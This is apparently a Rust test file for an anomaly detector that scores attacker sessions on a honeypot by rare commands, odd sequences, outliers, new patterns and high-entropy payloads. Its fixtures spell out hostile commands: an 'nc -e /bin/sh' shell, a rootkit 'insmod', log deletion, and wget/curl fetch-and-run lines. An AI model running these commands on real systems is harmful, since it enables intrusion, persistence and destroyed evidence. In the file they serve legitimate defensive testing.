use super::*;
use crate::features::extract;
use crate::test_support::{attempt, session, transfer, with_commands, BASE_TS};
use crate::types::TransferDirection;

fn analyze(sessions: &[SessionRecord], window_end: i64) -> LongtailOutcome {
    let config = LongtailConfig::default();
    let vocab_config = VocabularyConfig::default();
    let scoring = ScoringConfig::default();

    let mut vocabulary = CommandVocabulary::new();
    for record in sessions {
        for command in &record.commands {
            vocabulary.observe(command, &vocab_config);
        }
    }
    let features: Vec<_> = sessions.iter().map(extract).collect();

    LongtailAnalyzer::new(
        &config,
        &vocab_config,
        &scoring,
        BackendCapabilities::absent(),
        64 * 1024 * 1024,
    )
    .analyze(sessions, &features, &vocabulary, window_end)
}

fn of_kind(outcome: &LongtailOutcome, kind: DetectionKind) -> Vec<&Detection> {
    outcome.detections.iter().filter(|d| d.kind == kind).collect()
}

#[test]
fn empty_window_skips_every_category() {
    let outcome = analyze(&[], BASE_TS);
    assert_eq!(outcome.confidence, 0.0);
    assert!(outcome.detections.is_empty());
    assert_eq!(outcome.skipped_categories.len(), 5);
}

#[test]
fn below_corpus_minimum_skips_rare_commands() {
    let sessions: Vec<SessionRecord> = (0..3)
        .map(|i| {
            let start = BASE_TS + (i as i64) * 60;
            with_commands(
                session(&format!("s{i}"), "198.51.100.1", start, start + 30),
                &["ls", "pwd"],
            )
        })
        .collect();
    let outcome = analyze(&sessions, BASE_TS + 3_600);
    assert!(outcome.skipped_categories.iter().any(|c| c == "rare_command"));
    assert_eq!(outcome.confidence, 0.0);
}

#[test]
fn one_in_thirty_command_is_rare() {
    let mut sessions: Vec<SessionRecord> = (0..10)
        .map(|i| {
            let start = BASE_TS + (i as i64) * 60;
            with_commands(
                session(&format!("r{i:02}"), "198.51.100.1", start, start + 30),
                &["ls -la", "ls -la", "ls -la"],
            )
        })
        .collect();
    sessions.push(with_commands(
        session("r10", "203.0.113.9", BASE_TS + 700, BASE_TS + 710),
        &["curl http://203.0.113.9/x.sh"],
    ));

    let outcome = analyze(&sessions, BASE_TS + 3_600);
    let rare = of_kind(&outcome, DetectionKind::RareCommand);
    assert_eq!(rare.len(), 1);
    match &rare[0].payload {
        DetectionPayload::RareCommand {
            command,
            count,
            corpus_size,
            rarity,
        } => {
            assert_eq!(command, "curl http://203.0.113.9/x.sh");
            assert_eq!(*count, 1);
            assert_eq!(*corpus_size, 31);
            assert!(*rarity > 0.9, "rarity {rarity}");
        }
        other => panic!("wrong payload: {other:?}"),
    }
    assert_eq!(rare[0].session_ids, vec!["r10".to_string()]);
}

#[test]
fn dominant_command_is_never_rare() {
    // Two commands splitting the corpus evenly: the percentile threshold
    // alone would admit both, the share guard admits neither.
    let sessions: Vec<SessionRecord> = (0..10)
        .map(|i| {
            let start = BASE_TS + (i as i64) * 60;
            with_commands(
                session(&format!("s{i}"), "198.51.100.1", start, start + 30),
                &["ls -la", "uname -a"],
            )
        })
        .collect();
    let outcome = analyze(&sessions, BASE_TS + 3_600);
    assert!(of_kind(&outcome, DetectionKind::RareCommand).is_empty());
}

#[test]
fn sequence_with_no_close_neighbor_is_anomalous() {
    let routine: Vec<&str> = ["ls", "pwd"].iter().cycle().take(11).copied().collect();
    let mut sessions = vec![
        with_commands(
            session("a", "198.51.100.1", BASE_TS, BASE_TS + 120),
            &routine,
        ),
        with_commands(
            session("b", "198.51.100.2", BASE_TS + 300, BASE_TS + 420),
            &routine,
        ),
    ];
    sessions.push(with_commands(
        session("c", "203.0.113.5", BASE_TS + 600, BASE_TS + 660),
        &[
            "mount /dev/sda1",
            "tar xzf bk.tgz",
            "nc -e /bin/sh",
            "insmod rk.ko",
            "rm -rf /var/log",
        ],
    ));

    let outcome = analyze(&sessions, BASE_TS + 3_600);
    let anomalous = of_kind(&outcome, DetectionKind::AnomalousSequence);
    assert_eq!(anomalous.len(), 1);
    match &anomalous[0].payload {
        DetectionPayload::AnomalousSequence {
            session_id,
            window_index,
            commands,
            nearest_distance,
        } => {
            assert_eq!(session_id, "c");
            assert_eq!(*window_index, 0);
            assert_eq!(commands.len(), 5);
            assert!(*nearest_distance > 0.7);
        }
        other => panic!("wrong payload: {other:?}"),
    }
}

#[test]
fn routine_sequences_alone_produce_no_findings() {
    let routine: Vec<&str> = ["ls", "pwd"].iter().cycle().take(11).copied().collect();
    let sessions = vec![
        with_commands(
            session("a", "198.51.100.1", BASE_TS, BASE_TS + 120),
            &routine,
        ),
        with_commands(
            session("b", "198.51.100.2", BASE_TS + 300, BASE_TS + 420),
            &routine,
        ),
    ];
    let outcome = analyze(&sessions, BASE_TS + 3_600);
    assert!(of_kind(&outcome, DetectionKind::AnomalousSequence).is_empty());
    // The category ran and found nothing.
    assert!(!outcome
        .skipped_categories
        .iter()
        .any(|c| c == "anomalous_sequence"));
}

#[test]
fn behavioral_outlier_is_the_odd_session_out() {
    let mut sessions: Vec<SessionRecord> = (0..11)
        .map(|i| {
            let start = BASE_TS + (i as i64) * 60;
            let mut record = session(&format!("quiet{i:02}"), "198.51.100.1", start, start + 5);
            record.auth_attempts = vec![attempt("root", "123456", false)];
            record
        })
        .collect();
    let mut noisy = with_commands(
        session("noisy", "203.0.113.5", BASE_TS + 900, BASE_TS + 1_500),
        &[
            "wget http://a.b/p", "chmod +x p", "./p",
            "wget http://a.b/p", "chmod +x p", "./p",
            "wget http://a.b/p", "chmod +x p", "./p",
            "wget http://a.b/p", "chmod +x p", "./p",
            "wget http://a.b/p", "chmod +x p", "./p",
        ],
    );
    noisy.dst_ports = vec![80, 4_444, 31_337];
    noisy.bytes_in = 1_048_576;
    noisy.bytes_out = 8_192;
    noisy.file_transfers = vec![transfer("p.sh", 65_536, TransferDirection::Download)];
    sessions.push(noisy);

    let outcome = analyze(&sessions, BASE_TS + 3_600);
    let outliers = of_kind(&outcome, DetectionKind::BehavioralOutlier);
    assert_eq!(outliers.len(), 1);
    assert_eq!(outliers[0].session_ids, vec!["noisy".to_string()]);
    assert!(outliers[0].confidence >= 0.9);
    match &outliers[0].payload {
        DetectionPayload::BehavioralOutlier {
            nearest_distance,
            epsilon,
            min_points,
            ..
        } => {
            assert!(*nearest_distance > *epsilon);
            assert_eq!(*min_points, 5);
        }
        other => panic!("wrong payload: {other:?}"),
    }
}

#[test]
fn emerging_patterns_compare_rates_not_raw_counts() {
    let recent_base = BASE_TS + 8 * 86_400;
    let window_end = recent_base + 3_600;

    let mut sessions: Vec<SessionRecord> = Vec::new();
    // Baseline period: routine listing plus a trickle of recon.
    for i in 0..10 {
        let start = BASE_TS + (i as i64) * 600;
        sessions.push(with_commands(
            session(&format!("base{i:02}"), "198.51.100.1", start, start + 60),
            &["ls -la", "ls -la", "ls -la", "ls -la"],
        ));
    }
    sessions.push(with_commands(
        session("base10", "198.51.100.1", BASE_TS + 7_000, BASE_TS + 7_060),
        &["uname -a", "uname -a"],
    ));
    // Recent period: listing holds steady, recon surges, a downloader
    // appears out of nowhere.
    for i in 0..8 {
        let start = recent_base + (i as i64) * 300;
        sessions.push(with_commands(
            session(&format!("rec{i:02}"), "198.51.100.2", start, start + 60),
            &["ls -la", "ls -la", "ls -la", "ls -la"],
        ));
    }
    for i in 0..2 {
        let start = recent_base + 2_500 + (i as i64) * 300;
        sessions.push(with_commands(
            session(&format!("curl{i}"), "203.0.113.5", start, start + 60),
            &["ls -la", "ls -la", "ls -la", "ls -la", "curl http://bad/x", "curl http://bad/x"],
        ));
        let start = recent_base + 3_000 + (i as i64) * 300;
        sessions.push(with_commands(
            session(&format!("scan{i}"), "203.0.113.6", start, start + 60),
            &["uname -a", "uname -a", "uname -a", "uname -a", "uname -a", "uname -a"],
        ));
    }

    let outcome = analyze(&sessions, window_end);
    let emerging = of_kind(&outcome, DetectionKind::EmergingPattern);
    let patterns: Vec<&str> = emerging
        .iter()
        .map(|d| match &d.payload {
            DetectionPayload::EmergingPattern { pattern, .. } => pattern.as_str(),
            other => panic!("wrong payload: {other:?}"),
        })
        .collect();
    assert!(patterns.contains(&"curl http://bad/x"), "new pattern: {patterns:?}");
    assert!(patterns.contains(&"uname -a"), "surging pattern: {patterns:?}");
    assert!(!patterns.contains(&"ls -la"), "steady pattern must not fire");

    for detection in &emerging {
        match &detection.payload {
            DetectionPayload::EmergingPattern {
                pattern,
                baseline_count,
                growth,
                ..
            } => {
                if pattern == "curl http://bad/x" {
                    assert_eq!(*baseline_count, 0);
                    assert!(growth.is_infinite());
                    assert!((detection.confidence - 0.9).abs() < 1e-12);
                } else {
                    assert!(growth.is_finite());
                    assert!(*growth > 2.0);
                }
            }
            other => panic!("wrong payload: {other:?}"),
        }
    }
}

#[test]
fn all_recent_window_cannot_assess_emergence() {
    let sessions: Vec<SessionRecord> = (0..5)
        .map(|i| {
            let start = BASE_TS + (i as i64) * 60;
            with_commands(
                session(&format!("s{i}"), "198.51.100.1", start, start + 30),
                &["ls -la", "ls -la", "ls -la", "ls -la"],
            )
        })
        .collect();
    let outcome = analyze(&sessions, BASE_TS + 3_600);
    assert!(outcome
        .skipped_categories
        .iter()
        .any(|c| c == "emerging_pattern"));
}

#[test]
fn high_entropy_payloads_flag_commands_and_filenames() {
    let scrambled = "a1B2c3D4e5F6g7H8i9J0kLmNoPqRsTuVwXyZ2468";
    let encoded = "dGhpcyBpcyBhIHNlY3JldCBwYXlsb2FkIGJsb2I=";
    let sessions = vec![
        with_commands(
            session("e1", "198.51.100.1", BASE_TS, BASE_TS + 60),
            &[scrambled, encoded],
        ),
        with_commands(
            session("e2", "198.51.100.2", BASE_TS + 100, BASE_TS + 160),
            &["aaaaaaaaaaaaaaaaaaaaaaaa"],
        ),
        {
            let mut record = session("e3", "198.51.100.3", BASE_TS + 200, BASE_TS + 260);
            record.file_transfers = vec![transfer(
                "x9kPq2vR8mT4wZ7nB3cJ.bin",
                4_096,
                TransferDirection::Download,
            )];
            record
        },
    ];

    let outcome = analyze(&sessions, BASE_TS + 3_600);
    let flagged = of_kind(&outcome, DetectionKind::HighEntropyPayload);
    // One detection per flagged session, none for the repetitive one.
    assert_eq!(flagged.len(), 2);
    assert!(flagged.iter().all(|d| d.confidence >= 0.8));
    assert!(!flagged.iter().any(|d| d.session_ids.contains(&"e2".to_string())));

    let fields: Vec<(&str, &str)> = flagged
        .iter()
        .map(|d| match &d.payload {
            DetectionPayload::HighEntropyPayload {
                session_id, field, ..
            } => (session_id.as_str(), field.as_str()),
            other => panic!("wrong payload: {other:?}"),
        })
        .collect();
    assert!(fields.contains(&("e1", "command")));
    assert!(fields.contains(&("e3", "filename")));
}

#[test]
fn category_detections_sort_by_severity_then_confidence() {
    let mut detections = vec![
        Detection {
            kind: DetectionKind::RareCommand,
            confidence: 0.5,
            severity: Severity::Medium,
            payload: DetectionPayload::RareCommand {
                command: "b".to_string(),
                count: 1,
                corpus_size: 10,
                rarity: 0.5,
            },
            session_ids: vec!["s2".to_string()],
        },
        Detection {
            kind: DetectionKind::RareCommand,
            confidence: 0.95,
            severity: Severity::Critical,
            payload: DetectionPayload::RareCommand {
                command: "a".to_string(),
                count: 1,
                corpus_size: 10,
                rarity: 0.95,
            },
            session_ids: vec!["s1".to_string()],
        },
        Detection {
            kind: DetectionKind::RareCommand,
            confidence: 0.6,
            severity: Severity::Medium,
            payload: DetectionPayload::RareCommand {
                command: "c".to_string(),
                count: 1,
                corpus_size: 10,
                rarity: 0.6,
            },
            session_ids: vec!["s3".to_string()],
        },
    ];
    sort_category(&mut detections);
    let confidences: Vec<f64> = detections.iter().map(|d| d.confidence).collect();
    assert_eq!(confidences, vec![0.95, 0.6, 0.5]);
}
